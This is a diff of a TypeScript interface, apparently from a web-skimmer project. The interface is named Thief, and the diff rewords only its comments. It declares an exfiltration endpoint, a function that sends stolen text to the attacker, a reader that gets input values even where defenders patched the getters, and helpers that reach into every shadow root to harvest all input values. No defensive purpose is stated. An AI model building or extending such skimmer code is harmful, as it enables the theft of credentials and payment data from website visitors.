@@ -1,15 +1,15 @@
-// What every skimmer brings along: a way home, and the browser's own functions from before anybody patched them. Runs in the page.
+// What every skimmer has: a way to send data to the attacker, and the browser's functions from before anything patched them. Runs in the page.
 
 export interface Thief {
-  /** Where what is stolen goes. */
+  /** Where stolen data goes. */
   readonly home: string;
-  /** Sends it home, each text once. */
+  /** Sends it to the attacker, each text once. */
   steal(this: void, text: unknown): void;
-  /** What stands in an input, whatever was patched; of anything else nothing. */
+  /** The value of an input, even if its getter was patched; nothing for other elements. */
   valueOf(this: void, target: unknown): string;
-  /** The document and every shadow root that can be reached. */
+  /** The document and every shadow root within reach. */
   roots(this: void): readonly (Document | ShadowRoot)[];
-  /** What stands in every input that can be reached. */
+  /** The value of every input within reach. */
   values(this: void): string;
 }
 
